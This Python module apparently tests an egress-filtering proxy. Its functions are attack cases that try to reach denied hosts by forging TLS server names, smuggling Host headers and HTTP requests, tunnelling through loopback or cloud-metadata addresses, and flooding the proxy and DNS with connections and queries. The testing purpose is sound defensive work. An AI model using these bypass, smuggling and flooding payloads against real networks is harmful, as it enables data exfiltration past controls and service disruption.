# SPDX-License-Identifier: Apache-2.0
"""What tst_cliegressattacks does inside a run: one function a case. What they print is only for those who look into a failure."""
import socket
import ssl
import time


def talk(s, data, patience=1):
    s.settimeout(patience)
    got = b""
    try:
        if data:
            s.sendall(data)
        while part := s.recv(65536):
            got += part
    except OSError as error:
        got += b"<" + str(error).encode() + b">"
    return got


def proxy():
    return socket.create_connection(("127.0.0.1", 3128))


def direct(host, port):
    try:
        return socket.create_connection((host, port), timeout=3)
    except socket.gaierror:
        return tunnel(host.encode(), port)  # there are proxies only


def tunnel(host, port):
    s = proxy()
    s.sendall(b"CONNECT %s:%d HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, port, host))
    s.settimeout(3)
    answer = s.recv(200).split(b"\r\n")[0]
    if b" 200 " not in answer:
        print(answer)
    return s


def socks(host, port):
    s = socket.create_connection(("127.0.0.1", 1080), timeout=3)
    s.sendall(b"\5\1\0")
    s.recv(2)
    s.sendall(b"\5\1\0\3" + bytes([len(host)]) + host + port.to_bytes(2, "big"))
    print(s.recv(10))
    return s


def hello(name):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def get(host, path="/stolen", more=""):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode()


def suffix_tricks():
    for host in (b"evil-allowed.test", b"allowed.test.evil.test", b"www.allowed.test.evil.test", b"www.allowed.test@denied.test",
                 b"denied.test\0.www.allowed.test", b"denied.test#www.allowed.test", b"denied.test%00.allowed.test",
                 b"denied.test/.allowed.test", b"denied.test\r\nX: .allowed.test", b"www.allowed.test\\@denied.test",
                 b"denied.test\xe3\x80\x82allowed.test", b"203.0.113.20", b"denied.test:80@www.allowed.test"):
        print(talk(proxy(), b"GET http://" + host + b"/ HTTP/1.1\r\nHost: www.allowed.test\r\n\r\n", 0.5)[:40])
        print(talk(proxy(), b"CONNECT " + host + b":80 HTTP/1.1\r\nHost: www.allowed.test\r\n\r\n", 0.5)[:40])
        s = socks(host, 80)
        s.close()


def another_name_in_the_hello():
    print(talk(tunnel(b"www.allowed.test", 443), hello("tenant.denied.test")))


def without_a_proxy():
    print(talk(direct("www.allowed.test", 443), hello("tenant.denied.test")))


def by_socks():
    print(talk(socks(b"www.allowed.test", 443), hello("tenant.denied.test")))


def a_hello_without_a_name():
    print(talk(direct("www.allowed.test", 443), hello(None)))


def a_hello_in_single_bytes():
    s = direct("www.allowed.test", 443)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for byte in hello("tenant.denied.test"):
        s.sendall(bytes([byte]))
    print(talk(s, b""))


def a_hello_in_many_records():
    message = hello("tenant.denied.test")[5:]
    for size in (1, 20, 100):
        pieces = [message[at:at + size] for at in range(0, len(message), size)]
        print(talk(tunnel(b"www.allowed.test", 443), b"".join(b"\x16\3\1" + len(each).to_bytes(2, "big") + each for each in pieces)))


def a_hello_on_another_port():
    print(talk(direct("www.allowed.test", 8443), hello("tenant.denied.test")))
    print(talk(tunnel(b"www.allowed.test", 8443), hello("tenant.denied.test")))


def a_late_hello_on_another_port():
    for s in (direct("www.allowed.test", 8443), tunnel(b"www.allowed.test", 8443)):
        time.sleep(0.6)
        print(talk(s, hello("tenant.denied.test")))


def no_tls_where_tls_is_due():
    print(talk(direct("www.allowed.test", 443), get("tenant.denied.test")))
    print(talk(tunnel(b"www.allowed.test", 443), get("tenant.denied.test")))


def a_second_hello_after_a_retry():
    """The server wants another group than the client guessed, and goes by the name in the hello that it gets then."""
    for s in (direct("www.allowed.test", 8443), tunnel(b"www.allowed.test", 8443), socks(b"www.allowed.test", 8443)):
        context = ssl.create_default_context()
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = context.wrap_bio(incoming, outgoing, server_hostname="www.allowed.test")
        s.settimeout(3)
        for change in (b"www.allowed.test", b"tenant.evil.test"):
            try:
                tls.do_handshake()
            except ssl.SSLWantReadError:
                pass
            try:
                s.sendall(outgoing.read().replace(b"www.allowed.test", change))
                incoming.write(s.recv(65536))
            except OSError as error:
                print(error)
    for s in (direct("www.allowed.test", 443), tunnel(b"www.allowed.test", 443)):
        print(talk(s, hello("www.allowed.test") + hello("tenant.evil.test")))


def a_line_of_junk_before_a_request():
    for pause in (0, 1.3):
        in_turns([(s, words) for words in ([b"junk\r\n" + get("tenant.denied.test")], [b"junk\r\n", get("tenant.denied.test")],
                                           [b"junk\n", b"junk\n\r\n", get("tenant.denied.test")],
                                           [b"\0junk\n", b"BREW /stolen http/1.1\nHost: tenant.denied.test\n\n"])
                  for s in (direct("www.allowed.test", 8080), tunnel(b"www.allowed.test", 8080), socks(b"www.allowed.test", 8080))], pause)


def another_host_field():
    print(talk(direct("www.allowed.test", 80), get("tenant.denied.test")))
    print(talk(tunnel(b"www.allowed.test", 80), get("tenant.denied.test")))
    print(talk(socks(b"www.allowed.test", 80), get("tenant.denied.test")))


def another_host_field_late():
    s = direct("www.allowed.test", 80)
    time.sleep(0.6)
    print(talk(s, get("tenant.denied.test")))


def another_host_field_on_another_port():
    for words in ([b"", get("tenant.denied.test")], [b"G", get("tenant.denied.test")[1:]],
                  [b"\r\n", b"\r\n" * 20, get("tenant.denied.test")], [b"\r\n" * 40, get("tenant.denied.test")],
                  [b"BREW /stolen HTTP/1.1\r\nHost: tenant.denied.test\r\n\r\n"]):
        for s in (direct("www.allowed.test", 8080), tunnel(b"www.allowed.test", 8080)):
            for word in words[:-1]:
                s.sendall(word)
                time.sleep(0.3)
            print(talk(s, words[-1], 0.5))


def in_turns(held, pause):
    """Sends the first words of all of these (socket, words), after a pause the second ones, and so on; prints what comes back."""
    for turn in range(max(len(words) for _, words in held)):
        for s, words in held:
            try:
                s.sendall(b"".join(words[turn:turn + 1]))
            except OSError as error:
                print(error)
        time.sleep(pause)
    for s, _ in held:
        print(talk(s, b"", 0.1)[:60])


def a_method_that_comes_in_pieces():
    """What is passed on before a request can be told from anything else may not become one."""
    rest = b" HTTP/1.1\r\nHost: tenant.denied.test\r\n\r\n"
    for pause in (0.05, 1.5):
        in_turns([(s, words)
                  for words in ([b"BREW /stolen", rest], [b"BREW", b" /stolen" + rest], [b"BREW /stolen HTT", rest[4:]], [b"B", b"REW /stolen" + rest],
                                [b"\r\n", b"BREW /stolen", rest], [b"G", b"ET /stolen" + rest], [b" BREW /stolen", rest], [b"BREW /stolen\1", rest],
                                [b"BREW /" + b"x" * 20000, rest], [b"BREW /" + b"x" * 10000, b"x" * 30000, rest])
                  for s in (direct("www.allowed.test", 8080), tunnel(b"www.allowed.test", 8080), socks(b"www.allowed.test", 8080))], pause)
    s = tunnel(b"www.allowed.test", 8080)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for byte in b"BREW /stolen" + rest:
        s.sendall(bytes([byte]))
    print(talk(s, b"", 0.3))


def http_2_with_prior_knowledge():
    """The frames after the preface name any host."""
    rest = b"HTTP/2.0\r\n\r\nSM\r\n\r\n"
    in_turns([(s, words) for port, words in ((7777, [b"PRI * " + rest]), (7777, [b"PRI * ", rest]), (22, [b"", b"PRI * " + rest]))  # 22 speaks first
              for s in (direct("www.allowed.test", port), tunnel(b"www.allowed.test", port))], 1.3)


def another_host_field_in_odd_clothes():
    for data in (b"BREW /stolen HTTP/1.1\r\nHost: tenant.denied.test\r\n\r\n", b"\r\nGET /stolen HTTP/1.1\r\nHost: tenant.denied.test\r\n\r\n",
                 b"GET /stolen HTTP/1.1\nHost: tenant.denied.test\n\n", b"GET http://tenant.denied.test/ HTTP/1.1\r\nHost: www.allowed.test\r\n\r\n",
                 b"GET /stolen HTTP/1.1\r\nHost : tenant.denied.test\r\nHost: www.allowed.test\r\n\r\n",
                 b"GET /stolen HTTP/1.1\r\nHost: www.allowed.test\r\nHost: tenant.denied.test\r\n\r\n",
                 b"GET /stolen HTTP/1.1\r\n Host: tenant.denied.test\r\nHost: www.allowed.test\r\n\r\n"):
        print(talk(direct("www.allowed.test", 80), data, 0.7))


def kept_connection_another_host():
    s = proxy()
    s.sendall(get("www.allowed.test").replace(b" /", b" http://www.allowed.test/"))
    time.sleep(0.3)
    print(talk(s, get("denied.test").replace(b" /", b" http://denied.test/")))
    for s in (direct("www.allowed.test", 80), tunnel(b"www.allowed.test", 80), socks(b"www.allowed.test", 80)):
        s.sendall(get("www.allowed.test"))
        time.sleep(0.3)
        print(talk(s, get("tenant.denied.test")))


def pipelined_another_host():
    print(talk(proxy(), get("x").replace(b" /", b" http://www.allowed.test/") + get("x").replace(b" /", b" http://denied.test/")))
    for s in (direct("www.allowed.test", 80), tunnel(b"www.allowed.test", 80), socks(b"www.allowed.test", 80)):
        print(talk(s, get("www.allowed.test") + get("tenant.denied.test")))


def a_request_hidden_in_another():
    inner = get("tenant.denied.test", "/hidden")
    for fields in ("Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", "Transfer-Encoding: chunked\r\nContent-Length: 0\r\n",
                   "Content-Length: 0\r\nContent-Length: 5\r\n", "Transfer-Encoding: xchunked\r\n", "Transfer-Encoding : chunked\r\n",
                   "Transfer-Encoding:\x0bchunked\r\n", "X: y\r\n Transfer-Encoding: chunked\r\n", "X: y\nTransfer-Encoding: chunked\r\n",
                   "X: y\rTransfer-Encoding: chunked\r\n", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
                   "Content-Length: +0\r\n", "Connection: Content-Length\r\nContent-Length: %d\r\n" % len(inner)):
        for s, path in ((proxy(), b"http://www.allowed.test/"), (direct("www.allowed.test", 80), b"/")):
            head = b"POST " + path + b" HTTP/1.1\r\nHost: www.allowed.test\r\n" + fields.encode() + b"\r\n"
            print(talk(s, head + inner, 0.3)[:60])
            if "chunked" in fields:
                s = proxy() if path != b"/" else direct("www.allowed.test", 80)
                print(talk(s, head + b"0\r\n\r\n" + inner, 0.3)[:60])


def a_body_that_can_t_be_followed():
    for s, path in ((proxy(), b"http://www.allowed.test/echo"), (direct("www.allowed.test", 80), b"/echo")):
        print(talk(s, b"POST " + path + b" HTTP/1.1\r\nHost: www.allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n"
                   + get("tenant.denied.test")))


def an_upgrade_to_what_can_t_be_read():
    print(talk(direct("www.allowed.test", 80), get("www.allowed.test", "/headers", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n")
               + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))


def ourselves_and_the_host():
    for host in (b"127.0.0.1", b"localhost", b"198.51.100.2", b"0.0.0.0", b"2130706433", b"0x7f.1", b"0177.0.0.1", b"127.1", b"[::1]",
                 b"[::ffff:127.0.0.1]", b"[64:ff9b::7f00:1]", b"198.18.0.1", b"169.254.169.254"):
        for port in (22, 80, 443, 3128, 8080):
            print(talk(proxy(), b"CONNECT %s:%d HTTP/1.1\r\nHost: x\r\n\r\n" % (host, port), 0.3)[:30])
        print(talk(proxy(), b"GET http://%s/ HTTP/1.1\r\nHost: www.allowed.test\r\n\r\n" % host, 0.3)[:30])


def past_the_listeners():
    for family, kind in ((socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET, socket.SOCK_STREAM)):
        for address in (("198.51.100.2", 80), ("127.0.0.1", 80), ("198.51.100.2", 22), ("203.0.113.10", 22), ("10.0.0.5", 80)):
            try:
                s = socket.socket(family, kind)
                s.settimeout(0.5)
                s.connect(address)
                s.sendall(get("x"))
                print(s.recv(100))
            except OSError as error:
                print(error)


def odd_addresses():
    for host in ("::ffff:203.0.113.20", "64:ff9b::cb00:7114", "2002:cb00:7114::", "::203.0.113.20", "fe80::1", "::ffff:198.18.0.1",
                 "198.18.0.99", "198.19.0.1", "240.0.0.1", "255.255.255.255", "224.0.0.1", "0.0.0.0", "::", "100.64.0.5"):
        for port in (80, 443):
            try:
                s = socket.create_connection((host, port), timeout=1)
                print(talk(s, get("www.allowed.test") if port == 80 else hello("www.allowed.test"), 0.3)[:60])
            except OSError as error:
                print(error)
    s = socket.socket()  # what is said with the first packet
    try:
        s.sendto(get("denied.test"), socket.MSG_FASTOPEN, ("203.0.113.20", 80))
        print(talk(s, b"", 0.3))
    except OSError as error:
        print(error)


def first_words_of_other_protocols():
    """They pass, also those that look like the beginning of a request, and whoever waits for an answer to them gets one soon."""
    held = [(s, words)
            for words in (b"PING", b"PING\r\n", b"*1\r\n$4\r\nPING\r\n", b"SSH-2.0-test\r\n", b"EHLO a.test\r\n", b"a1 LOGIN me pw", b"get key\r\n",
                          b"0031git-upload-pack /a.git\0host=a.test\0", b"AMQP\0\0\x09\1", b"\0\0\0\x08\x04\xd2\x16\x2f", b"{\"a\": 1}", b"P",
                          b"\r\n", b"set /a 0 0 1\r\nHTTP/1.1\r\n", b"x" * 50000)
            for s in (direct("www.allowed.test", 7777), tunnel(b"www.allowed.test", 7777))]
    begin = time.monotonic()
    for s, words in held:
        s.sendall(words)
    for s, words in held:
        s.settimeout(5)
        got = b""
        while len(got) < len(words) and (part := s.recv(65536)):
            got += part
        print(got == words, words)
    print(time.monotonic() - begin < 3)
    for s, words in held:
        s.sendall(b" and more\n")
        print(s.recv(100) == b" and more\n")


def streamed():
    """What is answered while the request is still being sent."""
    for s, path in ((proxy(), b"http://allowed.test/stream"), (direct("allowed.test", 80), b"/stream")):
        s.sendall(b"POST " + path + b" HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 3000\r\n\r\n")
        s.settimeout(3)
        for letter in b"abc":
            s.sendall(bytes([letter]) * 1000)
            got = b""
            while got.count(letter) < 1000:
                got += s.recv(65536)
            print(chr(letter))


def websocket():
    """What isn't HTTP any more once the server agreed to that."""
    for s, path in ((proxy(), b"http://allowed.test/websocket"), (direct("allowed.test", 80), b"/websocket"),
                    (tunnel(b"allowed.test", 80), b"/websocket")):
        s.settimeout(3)
        s.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: allowed.test\r\nConnection: keep-alive, Upgrade\r\nUpgrade: WebSocket\r\n\r\n")
        got = b""
        while b"\r\n\r\n" not in got:
            got += s.recv(65536)
        s.sendall(b"\0\xffGET no request")
        print(got.split(b"\r\n")[0], s.recv(100))


def an_upgrade_that_the_server_doesn_t_want():
    for s, path in ((proxy(), b"http://www.allowed.test/"), (direct("www.allowed.test", 80), b"/"), (tunnel(b"www.allowed.test", 80), b"/"),
                    (socks(b"www.allowed.test", 80), b"/")):
        s.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: www.allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
        time.sleep(0.3)
        print(talk(s, get("tenant.denied.test")))


def works(name="www.allowed.test"):
    """A request that is allowed, after all that."""
    for _ in range(20):
        try:
            if b"hello from" in talk(direct(name, 80), get(name, "/", "Connection: close\r\n"), 3):
                return print("works")
        except OSError:
            pass
        time.sleep(0.1)
    print("is broken")


def thousands_of_connections():
    for number in range(3000):  # a run makes about 1,000 a second
        try:
            s = socket.create_connection(("127.0.0.1", 3128) if number % 2 else ("www.allowed.test", 80), timeout=3)
            s.close()
        except OSError as error:
            if number % 1000 == 0:
                print(error)
    works()


def all_connections_at_once():
    held = []
    for number in range(400):
        s = proxy()
        s.sendall(b"GET ")
        held.append(s)
    time.sleep(0.5)
    closed = 0
    for s in held:
        s.setblocking(False)
        try:
            closed += s.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
    print("refused", closed)
    for s in held:
        s.close()
    works()


def long_heads():
    for _ in range(256):
        s = proxy()
        s.sendall(b"GET http://www.allowed.test/ HTTP/1.1\r\nHost: www.allowed.test\r\nX: " + b"x" * 32000)
        held.append(s)
    time.sleep(1)
    print("held", flush=True)
    __import__("sys").stdin.readline()


def slow_words():
    held = [(proxy(), get("x").replace(b" /", b" http://www.allowed.test/")) for _ in range(50)]
    held += [(direct("www.allowed.test", 443), hello("www.allowed.test")) for _ in range(50)]
    for at in range(0, 40):
        for s, data in held:
            s.sendall(data[at:at + 1])
    works()
    print(sum(b"hello from" in talk(s, data[40:], 0.2) for s, data in held[:10]))


def half_closed():
    for _ in range(200):
        s = direct("www.allowed.test", 80)
        s.sendall(get("www.allowed.test", "/", "Connection: close\r\n"))
        s.shutdown(socket.SHUT_WR)
        if b"hello from" not in talk(s, b"", 3):
            print("lost")
        s = tunnel(b"www.allowed.test", 80) if _ % 20 == 0 else proxy()
        s.shutdown(socket.SHUT_WR)
        held.append(s)
        s = direct("www.allowed.test", 443)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")  # ends in a reset
        s.close()
    works()


def much_behind_a_flood():
    for number in range(1100):
        talk(proxy(), b"GET http://h%d.test/ HTTP/1.0\r\n\r\n" % number)
    print(len(talk(direct("www.allowed.test", 80), get("www.allowed.test", "/bytes?count=1000000", "Connection: close\r\n"))) > 1000000)
    held.append(tunnel(b"www.allowed.test", 443))  # still open at the end
    held[0].sendall(hello("www.allowed.test"))
    print(len(held[0].recv(5)))


def denied_behind_a_flood():
    """Also what was allowed first, and then gave a reason to end it."""
    for number in range(1000):
        talk(proxy(), b"GET http://h%d.test/ HTTP/1.0\r\n\r\n" % number)
    print(talk(proxy(), b"POST http://www.allowed.test/echo HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n")[:12])
    print(talk(proxy(), get("x", "http://www.allowed.test/", "Connection: close\r\n"))[:12])


held = []


def query(name, kind=1):
    labels = b"".join(bytes([len(each)]) + each for each in name.split(b"."))
    return b"\1\2\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + kind.to_bytes(2, "big") + b"\0\1"


def flood_of_names():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("127.0.0.1", 53))
    for number in range(20000):
        try:
            s.send(query(b"%d.flood.test" % number))
            s.send(bytes([number & 255] * (number % 700)))
        except OSError:
            pass
    works()


def more_names_than_there_may_be():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.connect(("127.0.0.1", 53))
    codes = {}
    for number in range(4200):
        s.send(query(b"n%d.allowed.test" % number))
        answer = s.recv(600)
        codes[answer[3] & 15] = codes.get(answer[3] & 15, 0) + 1
    print(codes)
    print(socket.gethostbyname("n0.allowed.test"))


def huge_words():
    huge = b"x" * 100000
    for data in (b"GET http://" + huge + b"/ HTTP/1.1\r\n", huge, b"GET http://www.allowed.test/ HTTP/1.1\r\nHost: x\r\nX: " + huge,
                 b"CONNECT " + b"a." * 500 + b"test:443 HTTP/1.1\r\nHost: x\r\n\r\n", b"\0" * 100000, b"\n" * 100000,
                 b"GET http://www.allowed.test/ HTTP/1.1\r\n" + b"X: y\r\n" * 20000):
        print(talk(proxy(), data, 1)[:30])
        print(talk(direct("www.allowed.test", 443), data, 1)[:30])
    s = socket.create_connection(("127.0.0.1", 1080))
    print(talk(s, b"\5\xff" + b"\0" * 255 + b"\5\1\0\3\xff" + b"a" * 255 + b"\0\x50", 1))
    s = socket.create_connection(("127.0.0.1", 53))
    print(talk(s, b"\xff\xff" + huge, 1))
    works()
